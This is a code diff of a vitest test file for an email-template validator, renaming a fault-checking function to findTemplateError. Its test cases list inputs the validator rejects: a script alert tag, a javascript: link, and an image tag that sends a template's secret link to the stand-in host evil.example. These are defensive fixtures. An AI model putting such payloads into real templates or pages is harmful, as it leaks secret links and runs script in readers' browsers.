@@ -1,9 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import { findTemplateFault, findTypedName, insertName } from './mail-template.ts';
+import { findTemplateError, findTypedName, insertName } from './mail-template.ts';
 
 const known = ['first_name', 'link', 'message'];
 const faultOf = (text: string) =>
-  findTemplateFault('body', text, { variables: known, siteUrl: 'https://alpaca.example' });
+  findTemplateError('body', text, { variables: known, siteUrl: 'https://alpaca.example' });
 
 describe('a template', () => {
   it.each([
@@ -26,8 +26,8 @@ describe('a template', () => {
     ['<script>alert(1)</script>', { code: 'unsafe_html' }],
     ['<a href="javascript:x">x</a>', { code: 'unsafe_html' }],
     ['<img src="https://evil.example/?{{ link }}">', { code: 'secret_misplaced' }],
-  ])('may not say %.40s', (text, fault) => {
-    expect(faultOf(text)).toEqual(fault);
+  ])('may not say %.40s', (text, error) => {
+    expect(faultOf(text)).toEqual(error);
   });
 });
 
